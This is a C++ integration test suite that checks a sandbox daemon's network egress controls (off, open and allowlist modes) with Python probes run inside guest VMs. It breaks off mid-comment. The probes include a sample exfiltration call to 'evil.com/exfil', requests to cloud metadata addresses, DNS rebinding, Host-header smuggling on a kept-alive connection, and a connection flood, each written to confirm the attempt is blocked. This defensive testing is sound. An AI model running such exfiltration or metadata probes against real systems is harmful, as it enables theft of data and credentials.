// Egress end to end: the real hostd binary with real VMs, its network
// section pointed at the test internet (testnet.hpp), clients run inside the
// guests through the exec API. Three VMs for the whole suite (open, off,
// allowlist); a route guard counts any sandbox packet routed anywhere but
// the test internet. Needs root and the guest images.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <thread>

#include <google/protobuf/struct.pb.h>
#include <google/protobuf/util/json_util.h>
#include <gtest/gtest.h>
#include <openssl/rand.h>
#include <openssl/sha.h>

#include "messages/api.pb.h"
#include "net/bridge.hpp"
#include "tests/hostd/hostd_process.hpp"
#include "tests/hostd/hostd_test_support.hpp"
#include "tests/hostd/http_client.hpp"
#include "tests/net/testnet.hpp"

namespace vesicle::net {
namespace {

using testing::HostdOptions;
using testing::HostdProcess;
using testing::HttpClient;
using testing::HttpResponse;
using testing::images_dir;
using testing::missing_images_reason;

constexpr const char* kInternetPrefix = "vw";
constexpr const char* kBridgePrefix = "vh";
constexpr uint8_t kBlock = 227; // 10.227.0.0/16, routing table 1227 (net_bench uses 225)

bool contains(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

std::size_t count_of(const std::string& text, const std::string& part) {
  std::size_t count = 0;
  for (auto at = text.find(part); at != std::string::npos; at = text.find(part, at + part.size()))
    ++count;
  return count;
}

// A TCP listener on every host address (a "host service" a sandbox must
// never reach), counting connections.
class HostListener {
public:
  HostListener() {
    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int one = 1;
    ::setsockopt(fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    if (::bind(fd_, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0 ||
        ::listen(fd_, 16) != 0)
      throw std::runtime_error("host listener: bind/listen failed");
    socklen_t size = sizeof address;
    ::getsockname(fd_, reinterpret_cast<sockaddr*>(&address), &size);
    port_ = ntohs(address.sin_port);
    thread_ = std::thread([this] {
      while (!stop_) {
        pollfd p{fd_, POLLIN, 0};
        if (::poll(&p, 1, 100) <= 0) continue;
        int client = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
        if (client < 0) continue;
        ++accepted_;
        (void)!::write(client, "host service\n", 13);
        ::close(client);
      }
    });
  }
  ~HostListener() {
    stop_ = true;
    thread_.join();
    ::close(fd_);
  }
  unsigned short port() const { return port_; }
  int accepted() const { return accepted_; }

private:
  int fd_ = -1;
  unsigned short port_ = 0;
  std::atomic<bool> stop_{false};
  std::atomic<int> accepted_{0};
  std::thread thread_;
};

// Helpers defined once in each guest's REPL: each returns "ok ..." or
// "fail <exception>: ...", and never waits long (refusals are immediate).
constexpr const char* kGuestHelpers = R"PY(
import socket, ssl, urllib.request, time
def http(url, host=None, timeout=5):
    try:
        req = urllib.request.Request(url, headers={"Host": host} if host else {})
        return "ok " + urllib.request.urlopen(req, timeout=timeout).read().decode(errors="replace")
    except Exception as e:
        return "fail %s: %s" % (type(e).__name__, e)
def tcp(ip, port, timeout=3):
    try:
        with socket.create_connection((ip, port), timeout=timeout) as s:
            s.settimeout(timeout)
            return "ok " + s.recv(200).decode(errors="replace")
    except Exception as e:
        return "fail %s: %s" % (type(e).__name__, e)
def resolve(name):
    try:
        return "ok " + ",".join(sorted({a[4][0] for a in socket.getaddrinfo(name, 80, socket.AF_INET)}))
    except Exception as e:
        return "fail %s: %s" % (type(e).__name__, e)
def tls(ip, sni, timeout=5):
    ctx = ssl.create_default_context(cafile="/root/ca.pem")
    try:
        with socket.create_connection((ip, 443), timeout=timeout) as s:
            with ctx.wrap_socket(s, server_hostname=sni) as t:
                t.sendall(("GET / HTTP/1.0\r\nHost: %s\r\n\r\n" % sni).encode())
                data = b""
                while True:
                    chunk = t.recv(4096)
                    if not chunk: break
                    data += chunk
                return "ok " + data.decode(errors="replace")
    except Exception as e:
        return "fail %s: %s" % (type(e).__name__, e)
def udp(ip, port, timeout=2):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(timeout)
        s.sendto(b"ping", (ip, port)); data = s.recv(100); s.close()
        return "ok " + data.decode(errors="replace")
    except Exception as e:
        return "fail %s: %s" % (type(e).__name__, e)
print("helpers ready")
)PY";

class HostdEgress : public ::testing::Test {
protected:
  static inline std::unique_ptr<testnet::TestInternet> internet;
  static inline std::unique_ptr<testnet::RouteGuard> guard;
  static inline std::unique_ptr<HostdProcess> hostd;
  static inline std::unique_ptr<HostListener> listener;
  static inline std::string setup_error;
  static inline std::string open_id, off_id, allow_id;
  static inline rlim_t started_with_hard_limit = 0;

  static BridgeConfig bridge_config() {
    BridgeConfig config;
    config.prefix = kBridgePrefix;
    config.transit = Cidr{Ipv4{uint32_t{10} << 24 | uint32_t{kBlock} << 16}, 16};
    config.route_table = 1000 + kBlock;
    config.rule_priority = 7000 + 2u * kBlock;
    return config;
  }

  static void SetUpTestSuite() {
    if (geteuid() != 0) {
      setup_error = "these tests make network namespaces: run them as root";
      return;
    }
    setup_error = missing_images_reason();
    if (!setup_error.empty()) return;
    (void)testnet::TestInternet::reclaim(kInternetPrefix);
    auto routed = testnet::start_routed_internet(kInternetPrefix, kBridgePrefix);
    if (!routed) {
      setup_error = routed.error().message();
      return;
    }
    internet = std::move(routed->internet);
    guard = std::move(routed->guard);
    listener = std::make_unique<HostListener>();

    const auto bridge = bridge_config();
    std::ostringstream network;
    network << R"({"uplink": ")" << internet->uplink() << R"(", "uplink_gateway": ")"
            << testnet::kWanGateway.str() << R"(", "upstream_resolver": ")"
            << testnet::kResolverIp.str() << R"(", "denied_networks": ["10.0.0.0/8", )"
            << R"("172.16.0.0/12", "192.168.0.0/16", "100.64.0.0/10", ")"
            << testnet::kLanNetwork.str() << R"("], "prefix": ")" << kBridgePrefix
            << R"(", "transit": ")" << bridge.transit.str() << R"(", "route_table": )"
            << bridge.route_table << R"(, "rule_priority": )" << bridge.rule_priority
            << R"(, "max_slots": 6, "max_pooled": 2, "max_connections": 40,)"
            << R"( "new_connections_per_second": 100, "proxy_max_connections": 16,)"
            << R"( "proxy_idle_timeout_s": 5, "upstream_extra_ca": ")"
            << internet->ca_certificate().string() << R"("})";
    HostdOptions options;
    options.binary = HOSTD_BINARY;
    options.images_dir = images_dir();
    // Three sandboxes, and room for one fork child, or for the secrets
    // test's sandbox and its fork child.
    options.max_sandboxes = 5;
    options.memory_mib = 384;
    options.network_json = network.str();
    // Sandboxes come from a warm pool: its VMs wait with the host's default
    // egress (open: there is an uplink) and get the sandbox's egress when
    // taken if it differs, which these tests then hold them to.
    options.extra_config =
        R"("pools": [{"memory_mib": 384, "min_ready": 1, "max": 4, "preload_modules": []}])";
    // With hostd's QEMUs started ahead (a fork landing, each holding a
    // slot): with 6 slots, a sandbox that finds none free takes one of
    // theirs (the secrets test's fork child did not get one before).
    options.prestarted_vmms = -1;
    // hostd starts with the common soft limit of 1024 open files, which it
    // must raise (HostdRaisedItsOpenFileLimit).
    rlimit ours{};
    ::getrlimit(RLIMIT_NOFILE, &ours);
    rlimit low = ours;
    low.rlim_cur = std::min<rlim_t>(ours.rlim_cur, 1024);
    ::setrlimit(RLIMIT_NOFILE, &low);
    try {
      hostd = std::make_unique<HostdProcess>(options);
    } catch (const std::exception& e) {
      ::setrlimit(RLIMIT_NOFILE, &ours);
      setup_error = std::string("starting hostd: ") + e.what();
      return;
    }
    ::setrlimit(RLIMIT_NOFILE, &ours);
    started_with_hard_limit = ours.rlim_max;
    HttpClient http("127.0.0.1", hostd->port(), hostd->key());
    auto create = [&](const std::string& body, std::string& id) {
      // One VM waiting first, so every create is a pool hit.
      const auto deadline = std::chrono::steady_clock::now() + std::chrono::minutes(4);
      while (!contains(http.request("GET", "/v1/capacity").body, "\"ready\":1,") &&
             std::chrono::steady_clock::now() < deadline)
        std::this_thread::sleep_for(std::chrono::milliseconds(100));
      auto created = http.request("POST", "/v1/sandboxes", body);
      if (created.status != 201) {
        setup_error = "create " + body + ": " + std::to_string(created.status) + " " +
                      created.body + "\n" + hostd->log();
        return;
      }
      api::Sandbox sandbox;
      (void)google::protobuf::util::JsonStringToMessage(created.body, &sandbox);
      id = sandbox.id();
    };
    create("{}", open_id);
    if (setup_error.empty()) create(R"({"egress": false})", off_id);
    if (setup_error.empty())
      create(R"({"egress_allow": ["allowed.test", "rebind.example.test"]})", allow_id);
    if (!setup_error.empty()) return;
    std::ifstream cert(internet->ca_certificate());
    std::stringstream pem;
    pem << cert.rdbuf();
    for (const auto* id : {&open_id, &off_id, &allow_id}) {
      auto put =
          http.request("PUT", "/v1/sandboxes/" + *id + "/files?path=/root/ca.pem", pem.str());
      auto out = exec_in(http, *id, kGuestHelpers);
      if (put.status != 204 && put.status != 200) setup_error = "upload ca.pem: " + put.body;
      if (!contains(out, "helpers ready")) setup_error = "guest helpers: " + out;
    }
  }

  static void TearDownTestSuite() {
    if (hostd) {
      HttpClient http("127.0.0.1", hostd->port(), hostd->key());
      for (const auto* id : {&open_id, &off_id, &allow_id}) {
        if (id->empty()) continue;
        auto gone = http.request("DELETE", "/v1/sandboxes/" + *id);
        EXPECT_EQ(gone.status, 204u) << gone.body;
      }
      EXPECT_EQ(hostd->stop(), 0) << hostd->log();
      EXPECT_TRUE(hostd->qemu_pids().empty());
      EXPECT_TRUE(hostd->leftover_files().empty());
      hostd.reset();
    }
    // hostd's bridge removes its namespaces, host link, rules and tables
    // when it stops.
    auto left = BridgeManager::find_leftovers(bridge_config());
    EXPECT_TRUE(left && left->empty()) << (left ? left->describe() : left.error().message());
    (void)BridgeManager::reclaim_leftovers(bridge_config());
    if (listener) {
      EXPECT_EQ(listener->accepted(), 0) << "a sandbox reached a host service";
      listener.reset();
    }
    if (guard) {
      auto clean = guard->check_no_strays();
      EXPECT_TRUE(clean) << clean.error().message();
    }
    guard.reset();
    internet.reset();
  }

  void SetUp() override {
    if (!setup_error.empty()) {
      if (geteuid() != 0 || contains(setup_error, "no guest images")) GTEST_SKIP() << setup_error;
      FAIL() << setup_error;
    }
  }
  void TearDown() override {
    if (HasFailure() && hostd) std::fprintf(stderr, "hostd's log:\n%s\n", hostd->log().c_str());
  }

  // Runs Python in a sandbox and returns its stdout (and any error event).
  static std::string exec_in(HttpClient& http, const std::string& id, const std::string& code,
                             const char* language = "python", double timeout_s = 60) {
    google::protobuf::Struct request;
    (*request.mutable_fields())["code"].set_string_value(code);
    (*request.mutable_fields())["language"].set_string_value(language);
    (*request.mutable_fields())["timeout_s"].set_number_value(timeout_s);
    std::string body;
    (void)google::protobuf::util::MessageToJsonString(request, &body);
    auto response = http.request("POST", "/v1/sandboxes/" + id + "/exec", body);
    if (response.status != 200) return "exec failed: " + response.body;
    std::string out;
    std::istringstream lines(response.body);
    for (std::string line; std::getline(lines, line);) {
      google::protobuf::Struct event;
      if (!google::protobuf::util::JsonStringToMessage(line, &event).ok()) continue;
      const auto& fields = event.fields();
      auto type = fields.count("type") ? fields.at("type").string_value() : "";
      if ((type == "stdout" || type == "stderr" || type == "error") && fields.count("data"))
        out += fields.at("data").string_value();
      if (type == "error" && fields.count("traceback"))
        out += fields.at("traceback").string_value();
    }
    return out;
  }
  std::string run(const std::string& id, const std::string& code) {
    HttpClient http("127.0.0.1", hostd->port(), hostd->key());
    return exec_in(http, id, code);
  }
  HttpClient client() { return HttpClient("127.0.0.1", hostd->port(), hostd->key()); }
  // "p(f(a)); p(g(b))" for every probe, one line each, in one exec.
  std::vector<std::string> probes(const std::string& id, const std::vector<std::string>& calls) {
    std::string code;
    for (const auto& call : calls)
      code += "print(" + call + ".replace('\\n', ' ')[:300])\n";
    std::istringstream out(run(id, code));
    std::vector<std::string> lines;
    for (std::string line; std::getline(out, line);)
      lines.push_back(line);
    EXPECT_EQ(lines.size(), calls.size()) << out.str();
    lines.resize(calls.size());
    return lines;
  }
};

TEST_F(HostdEgress, SandboxJsonReportsEgress) {
  auto http = client();
  api::Health health;
  ASSERT_TRUE(
      google::protobuf::util::JsonStringToMessage(http.request("GET", "/v1/healthz").body, &health)
          .ok());
  EXPECT_EQ(health.default_egress(), "open") << "an uplink and no default_egress: open";
  for (auto [id, mode] :
       {std::pair{open_id, "open"}, std::pair{off_id, "off"}, std::pair{allow_id, "allowlist"}}) {
    auto got = http.request("GET", "/v1/sandboxes/" + id);
    ASSERT_EQ(got.status, 200u);
    api::Sandbox sandbox;
    ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(got.body, &sandbox).ok());
    EXPECT_EQ(sandbox.egress_mode(), mode) << got.body;
    EXPECT_EQ(sandbox.source(), "pool") << got.body;
    if (std::string(mode) == "allowlist") {
      ASSERT_EQ(sandbox.egress_allow_size(), 2);
      EXPECT_EQ(sandbox.egress_allow(0), "allowed.test");
    }
  }
}

// What agent code does first in a fresh sandbox, against the test
// internet's package host (packages.test): pip from an index, git clone
// over HTTP, npm from a tarball URL. The default (open) sandbox's image has
// the tools (images/packages.txt); pip needs no --break-system-packages.
TEST_F(HostdEgress, ADefaultSandboxInstallsWithPipGitAndNpm) {
  HttpClient http("127.0.0.1", hostd->port(), hostd->key());
  const auto pip = exec_in(
      http, open_id,
      "cd /tmp && pip install --quiet --no-cache-dir --trusted-host packages.test --index-url "
      "http://packages.test/simple/ vesicle-tiny 2>&1; "
      "python3 -c 'import vesicle_tiny; print(vesicle_tiny.VERSION)'",
      "bash", 180);
  EXPECT_TRUE(contains(pip, "tiny 1.0")) << pip;
  const auto git = exec_in(http, open_id,
                           "rm -rf /tmp/tiny && git clone -q http://packages.test/repo.git "
                           "/tmp/tiny 2>&1 && cat /tmp/tiny/README",
                           "bash", 120);
  EXPECT_TRUE(contains(git, "tiny 1.0")) << git;
  const auto npm = exec_in(http, open_id,
                           "mkdir -p /tmp/n && cd /tmp/n && npm install --no-audit --no-fund "
                           "--silent http://packages.test/vesicle-tiny-1.0.0.tgz 2>&1; "
                           "node -e 'console.log(require(\"vesicle-tiny\"))'",
                           "bash", 240);
  EXPECT_TRUE(contains(npm, "tiny 1.0")) << npm;
  const auto served = internet->log_lines();
  for (const char* path :
       {"/simple/vesicle-tiny/", "/repo.git/info/refs", "/vesicle-tiny-1.0.0.tgz"})
    EXPECT_TRUE(std::any_of(served.begin(), served.end(),
                            [&](const std::string& line) {
                              return line.starts_with("packages ") && contains(line, path);
                            }))
        << "the package host never served " << path;
}

TEST_F(HostdEgress, BadAllowlistsAreRefusedBeforeAnyVm) {
  auto http = client();
  for (const char* body :
       {R"({"egress_allow": ["198.18.1.10"]})", R"({"egress_allow": ["*"]})",
        R"({"egress_allow": ["*.test"]})", R"({"egress_allow": ["http://allowed.test/"]})",
        R"({"egress_allow": ["a*.example.test"]})",
        R"({"egress": false, "egress_allow": ["allowed.test"]})"}) {
    auto created = http.request("POST", "/v1/sandboxes", body);
    EXPECT_EQ(created.status, 400u) << body << " -> " << created.body;
    EXPECT_TRUE(contains(created.body, "egress")) << created.body;
  }
}

TEST_F(HostdEgress, OpenReachesTheHttpServerByName) {
  auto r = probes(open_id, {"resolve('allowed.test')", "http('http://allowed.test/')",
                            "tcp('198.18.1.20', 7000)", "udp('198.18.1.10', 7001)"});
  EXPECT_EQ(r[0], "ok 198.18.1.10");
  EXPECT_TRUE(contains(r[1], "ok hello from allowed host=allowed.test")) << r[1];
  EXPECT_TRUE(contains(r[2], "ok banner denied")) << r[2];
  EXPECT_TRUE(contains(r[3], "ok ping")) << r[3];
  EXPECT_GE(internet->hits("allowed"), 1);
}

TEST_F(HostdEgress, OffFailsDnsAndTcpButFilesWork) {
  auto r = probes(off_id,
                  {"resolve('allowed.test')", "tcp('198.18.1.10', 80)", "tcp('198.18.1.20', 7000)",
                   "udp('198.18.1.53', 53)", "http('http://198.18.1.10/')"});
  for (const auto& line : r)
    EXPECT_TRUE(contains(line, "fail")) << line;
  auto http = client();
  const std::string data("name,age\nAlice,30\nBob,45", 24);
  auto put = http.request("PUT", "/v1/sandboxes/" + off_id + "/files?path=/data/roster.csv", data);
  EXPECT_TRUE(put.status == 200 || put.status == 204) << put.body;
  auto got = http.request("GET", "/v1/sandboxes/" + off_id + "/files?path=/data/roster.csv");
  EXPECT_EQ(got.status, 200u);
  EXPECT_EQ(got.body, data);
}

// A fork's children inherit their parent's egress: each gets a network slot
// of its own with the same rules.
TEST_F(HostdEgress, AForkOfAnEgressOffSandboxHasNoEgress) {
  auto http = client();
  auto forked = http.request("POST", "/v1/sandboxes/" + off_id + "/fork", R"({"n": 1})");
  ASSERT_EQ(forked.status, 201u) << forked.body;
  api::ForkResponse response;
  ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(forked.body, &response).ok());
  ASSERT_EQ(response.children_size(), 1);
  const auto child = response.children(0);
  EXPECT_EQ(child.egress_mode(), "off");
  EXPECT_EQ(child.forked_from(), off_id);
  auto r = probes(child.id(), {"resolve('allowed.test')", "tcp('198.18.1.10', 80)",
                               "http('http://198.18.1.10/')"});
  for (const auto& line : r)
    EXPECT_TRUE(contains(line, "fail")) << line;
  // The parent is still held to its egress too.
  EXPECT_TRUE(contains(probes(off_id, {"tcp('198.18.1.10', 80)"})[0], "fail"));
  auto gone = http.request("DELETE", "/v1/sandboxes/" + child.id());
  EXPECT_EQ(gone.status, 204u) << gone.body;
}

// The example of the seeds (an exfiltration attempt with egress off), as
// written there but for the URL.
TEST_F(HostdEgress, SeedsExfiltrationExampleWithEgressOff) {
  auto http = client();
  auto put = http.request("PUT", "/v1/sandboxes/" + off_id + "/files?path=/data/roster.csv",
                          "name,age\nAlice,30\nBob,45");
  ASSERT_TRUE(put.status == 200 || put.status == 204) << put.body;
  auto out = run(off_id, R"PY(
# Try to exfiltrate - this will fail
import urllib.request
try:
    urllib.request.urlopen('https://evil.com/exfil', timeout=1)
except Exception as e:
    print('egress blocked:', type(e).__name__)
# But local compute still works
import csv
with open('/data/roster.csv') as f:
    rows = list(csv.DictReader(f))
print('rows:', len(rows))
)PY");
  EXPECT_EQ(out, "egress blocked: URLError\nrows: 2\n");
}

TEST_F(HostdEgress, AllowlistReachesListedNamesOverHttpAndTls) {
  auto r = probes(allow_id, {"resolve('allowed.test')", "http('http://allowed.test/')",
                             "tls('allowed.test', 'allowed.test')"});
  EXPECT_EQ(r[0], "ok 198.18.1.10");
  EXPECT_TRUE(contains(r[1], "ok hello from allowed host=allowed.test")) << r[1];
  EXPECT_TRUE(contains(r[2], "hello from allowed host=allowed.test")) << r[2];
}

TEST_F(HostdEgress, AllowlistRefusesWhatIsNotListed) {
  const int denied_before = internet->hits("denied");
  auto r =
      probes(allow_id, {
                           "resolve('denied.test')",
                           "http('http://198.18.1.10/')",                 // IP literal
                           "http('http://198.18.1.20/', 'allowed.test')", // Host to a denied IP
                           "tls('198.18.1.10', 'denied.test')",           // SNI mismatch
                           "http('http://198.18.1.10/', 'denied.test')",
                           "tcp('198.18.1.20', 7000)",
                           "udp('198.18.1.10', 7001)",
                       });
  for (const auto& line : r)
    EXPECT_TRUE(contains(line, "fail")) << line;
  EXPECT_EQ(internet->hits("denied"), denied_before);
}

// rebind.example.test answers allowed.test's address first, then the
// metadata address: the second answer never reaches the guest, and the
// metadata address is unreachable whatever name is used.
TEST_F(HostdEgress, AllowlistRefusesDnsRebinding) {
  auto r = probes(allow_id, {"resolve('rebind.example.test')",
                             "(time.sleep(1.5), resolve('rebind.example.test'))[1]",
                             "http('http://169.254.169.254/', 'rebind.example.test')",
                             "tcp('169.254.169.254', 80)"});
  EXPECT_EQ(r[0], "ok 198.18.1.10");
  EXPECT_FALSE(contains(r[1], "169.254")) << r[1];
  EXPECT_TRUE(contains(r[2], "fail")) << r[2];
  EXPECT_TRUE(contains(r[3], "fail")) << r[3];
  EXPECT_EQ(internet->hits("metadata"), 0);
}

// The host's own services (a listener on every host address), hostd's API,
// the gateway and the metadata address, from every mode.
TEST_F(HostdEgress, NoModeReachesTheHostOrTheMetadataAddress) {
  const auto bridge = bridge_config();
  const std::string host_port = std::to_string(listener->port());
  const std::string api_port = std::to_string(hostd->port());
  const std::string transit_host = Ipv4{bridge.transit.network.value + 1}.str();
  const std::string transit_egress = Ipv4{bridge.transit.network.value + 2}.str();
  std::vector<std::string> calls;
  for (const auto& port : {host_port, api_port}) {
    for (const auto& ip :
         {testnet::kWanHost.str(), transit_host, transit_egress, std::string("172.16.0.1")})
      calls.push_back("tcp('" + ip + "', " + port + ")");
  }
  calls.push_back("http('http://169.254.169.254/')");
  calls.push_back("http('http://198.18.2.10/')"); // a denied host-side network
  for (const auto& id : {open_id, off_id, allow_id}) {
    auto r = probes(id, calls);
    for (size_t i = 0; i < r.size(); ++i)
      EXPECT_TRUE(contains(r[i], "fail")) << id << ": " << calls[i] << " -> " << r[i];
  }
  EXPECT_EQ(listener->accepted(), 0);
  EXPECT_EQ(internet->hits("metadata"), 0);
  EXPECT_EQ(internet->hits("lan"), 0);
}

// Every guest has the same address; outside its slot a sandbox is only its
// slot's transit address, which no sandbox may reach.
TEST_F(HostdEgress, SandboxesCannotReachEachOther) {
  auto listening = run(allow_id, R"PY(
import socket, threading
server = socket.socket(); server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("0.0.0.0", 8080)); server.listen(8)
def serve():
    while True:
        c, _ = server.accept(); c.sendall(b"neighbour\n"); c.close()
threading.Thread(target=serve, daemon=True).start()
print(tcp("127.0.0.1", 8080))
)PY");
  ASSERT_TRUE(contains(listening, "ok neighbour")) << listening;
  const auto bridge = bridge_config();
  std::vector<std::string> calls;
  for (uint32_t slot = 0; slot < 4; ++slot)
    calls.push_back("tcp('" + Ipv4{bridge.transit.network.value + (slot + 1) * 4 + 2}.str() +
                    "', 8080)");
  for (const auto& id : {open_id, off_id}) {
    auto r = probes(id, calls);
    for (size_t i = 0; i < r.size(); ++i)
      EXPECT_TRUE(contains(r[i], "fail")) << id << ": " << calls[i] << " -> " << r[i];
  }
}

// Every cloud's metadata endpoint, and a service in a denied private range
// (100.64.0.0/10 here), from every mode.
TEST_F(HostdEgress, NoModeReachesAnyMetadataEndpointOrPrivateRange) {
  std::vector<std::string> calls;
  for (const char* ip : {"169.254.169.254", "168.63.129.16", "192.0.0.192", "100.100.100.200"}) {
    calls.push_back(std::string("http('http://") + ip + "/', None, 1)");
    calls.push_back(std::string("tcp('") + ip + "', 80, 1)");
  }
  calls.push_back("http('http://100.64.1.10/', None, 1)");
  calls.push_back("tcp('100.64.1.10', 7000, 1)");
  for (const auto& id : {open_id, off_id, allow_id}) {
    auto r = probes(id, calls);
    for (size_t i = 0; i < r.size(); ++i)
      EXPECT_TRUE(contains(r[i], "fail")) << id << ": " << calls[i] << " -> " << r[i];
  }
  EXPECT_EQ(internet->hits("metadata"), 0);
  EXPECT_EQ(internet->hits("cgnat"), 0);
}

TEST_F(HostdEgress, SmtpIsClosed) {
  auto open = probes(open_id, {"tcp('198.18.1.10', 25)", "tcp('198.18.1.10', 7000)"});
  EXPECT_TRUE(contains(open[0], "fail ConnectionRefusedError")) << open[0];
  EXPECT_TRUE(contains(open[1], "ok banner allowed")) << open[1]; // control
  auto listed = probes(allow_id, {"resolve('allowed.test')", "tcp('198.18.1.10', 25)"});
  EXPECT_TRUE(contains(listed[1], "fail")) << listed[1];
  EXPECT_EQ(internet->hits("smtp"), 0);
}

// Once allowed.test resolved, its address used to open on every port but
// 80/443 without a name. Now every connection names a listed host.
TEST_F(HostdEgress, AllowlistChecksTheNameWhateverThePort) {
  auto r = probes(allow_id, {"resolve('allowed.test')", "tcp('198.18.1.10', 7000, 2)",
                             "http('http://allowed.test:8080/')",
                             "http('http://198.18.1.10:8080/', 'denied.test')"});
  EXPECT_EQ(r[0], "ok 198.18.1.10");
  EXPECT_TRUE(contains(r[1], "fail")) << r[1];
  EXPECT_TRUE(contains(r[2], "ok hello from allowed host=allowed.test")) << r[2];
  EXPECT_TRUE(contains(r[3], "fail HTTPError: HTTP Error 403")) << r[3];
}

// A second request head on a kept-alive connection names another host.
TEST_F(HostdEgress, AllowlistChecksEveryRequestOnAKeptAliveConnection) {
  auto smuggled = [] {
    int count = 0;
    for (const auto& line : internet->log_lines())
      count += line.rfind("allowed ", 0) == 0 && contains(line, " denied.test ");
    return count;
  };
  const int before = smuggled();
  auto out = run(allow_id, R"PY(
import http.client as httpclient  # not "http": that name is a helper here
c = httpclient.HTTPConnection("allowed.test", 80, timeout=5)
c.request("GET", "/one"); r = c.getresponse(); print(r.status, r.read().decode().strip())
c.request("GET", "/two", headers={"Host": "denied.test"})
try:
    r = c.getresponse(); print(r.status, r.read().decode().strip())
except Exception as e:
    print("fail", type(e).__name__)
)PY");
  EXPECT_TRUE(contains(out, "200 hello from allowed host=allowed.test\n")) << out;
  EXPECT_TRUE(contains(out, "403 vesicle: egress refused: denied.test is not in this sandbox's "
                            "allowlist"))
      << out;
  EXPECT_FALSE(contains(out, "host=denied.test")) << out;
  EXPECT_EQ(smuggled(), before);
}

int open_fds(pid_t pid) {
  int count = 0;
  for ([[maybe_unused]] const auto& entry :
       std::filesystem::directory_iterator("/proc/" + std::to_string(pid) + "/fd"))
    ++count;
  return count;
}

// A guest opening connections without end is refused past its caps (40
// tracked connections; the allowlist proxy's 16, idle ones closed after
// 5 s): hostd's fds stay bounded and the other sandboxes connect as before.
TEST_F(HostdEgress, AConnectionFloodIsRefusedAndNobodyElseNotices) {
  const int fds_before = open_fds(hostd->pid());
  auto flood = run(open_id, R"PY(
held, outcome = [], {}
for i in range(60):
    try:
        held.append(socket.create_connection(("198.18.1.10", 80), timeout=3))
    except Exception as e:
        outcome[type(e).__name__] = outcome.get(type(e).__name__, 0) + 1
print("held", len(held), sorted(outcome.items()))
)PY");
  // The flood's connections are still held (the REPL keeps `held`).
  auto neighbour = probes(allow_id, {"http('http://allowed.test/')"});
  EXPECT_TRUE(contains(neighbour[0], "ok hello from allowed")) << neighbour[0];
  int held = 0;
  std::sscanf(flood.c_str(), "held %d", &held);
  // 40 tracked connections, less the flows of earlier tests not yet expired
  // (UDP, DNS), and every other attempt refused at once.
  EXPECT_LE(held, 40) << flood;
  EXPECT_GE(held, 25) << flood;
  EXPECT_TRUE(contains(flood, "('ConnectionRefusedError', " + std::to_string(60 - held) + ")"))
      << flood;
  auto again = probes(open_id, {"tcp('198.18.1.10', 7000)"});
  EXPECT_TRUE(contains(again[0], "fail ConnectionRefusedError")) << again[0];
  run(open_id, "for s in held: s.close()\nheld = []\ntime.sleep(0.5)");
  auto room = probes(open_id, {"tcp('198.18.1.10', 7000)"});
  EXPECT_TRUE(contains(room[0], "ok banner allowed")) << room[0];

  // Through the allowlist proxy: 16 served, the rest reset.
  auto proxied = run(allow_id, R"PY(
proxied, served = [], 0
for i in range(30):
    try:
        s = socket.create_connection(("198.18.1.10", 80), timeout=3)
        proxied.append(s)
        s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
        answer = b""
        while b"host=allowed.test" not in answer:
            chunk = s.recv(500)
            if not chunk: break
            answer += chunk
        served += b"hello from allowed" in answer
    except Exception:
        pass
print("served", served)
)PY");
  const int fds_during = open_fds(hostd->pid());
  int served = 0;
  std::sscanf(proxied.c_str(), "served %d", &served);
  std::printf("open guest: %sallowlist guest, 30 through the proxy: %shostd fds %d -> %d\n",
              flood.c_str(), proxied.c_str(), fds_before, fds_during);
  EXPECT_LE(served, 16) << proxied;
  EXPECT_GE(served, 12) << proxied; // less any of the slot's sockets still open
  EXPECT_LE(fds_during - fds_before, 2 * 16 + 8) << "hostd holds more than the proxy's cap";
  auto other = probes(open_id, {"http('http://allowed.test/')"});
  EXPECT_TRUE(contains(other[0], "ok hello from allowed")) << other[0];
  // Idle past the proxy's timeout: closed, and hostd's fds are back.
  auto idle = run(allow_id, R"PY(
time.sleep(6.5)
closed = 0
for s in proxied:
    try:
        s.settimeout(0.2)
        while s.recv(100): pass  # what is left of an answer, then the end
        closed += 1
    except socket.timeout:
        pass  # still open
    except OSError:
        closed += 1  # reset
    s.close()
print("closed", closed, "of", len(proxied))
)PY");
  int closed = -1, kept = 0;
  std::sscanf(idle.c_str(), "closed %d of %d", &closed, &kept);
  EXPECT_EQ(closed, kept) << idle; // a few were reset before their connect returned
  EXPECT_GE(kept, 16) << idle;
  EXPECT_LE(open_fds(hostd->pid()), fds_before + 4);
}

// Whether any file under `dir` holds `needle` (the files of a frozen
// sandbox: its RAM, device state and disk; hostd's log and state).
std::vector<std::string> files_holding(const std::filesystem::path& dir,
                                       const std::string& needle) {
  std::vector<std::string> found;
  std::error_code ec;
  for (auto it = std::filesystem::recursive_directory_iterator(dir, ec);
       !ec && it != std::filesystem::recursive_directory_iterator(); it.increment(ec)) {
    if (!it->is_regular_file(ec)) continue;
    std::ifstream in(it->path(), std::ios::binary);
    // Chunks overlapping by the needle's length, so no match straddles two.
    std::string window, chunk(1 << 20, '\0');
    while (in.read(chunk.data(), static_cast<std::streamsize>(chunk.size())) || in.gcount() > 0) {
      window.append(chunk.data(), static_cast<std::size_t>(in.gcount()));
      if (window.find(needle) != std::string::npos) {
        found.push_back(it->path().string());
        break;
      }
      window.erase(0, window.size() > needle.size() ? window.size() - needle.size() : 0);
    }
  }
  return found;
}

std::string sha256_hex_of(const std::string& text) {
  unsigned char digest[32];
  SHA256(reinterpret_cast<const unsigned char*>(text.data()), text.size(), digest);
  std::string out;
  char two[3];
  for (unsigned char byte : digest) {
    std::snprintf(two, sizeof two, "%02x", byte);
    out += two;
  }
  return out;
}

// Secrets that never enter the sandbox (README): the sandbox sends no
// Authorization header, the test host gets the one hostd holds (it answers
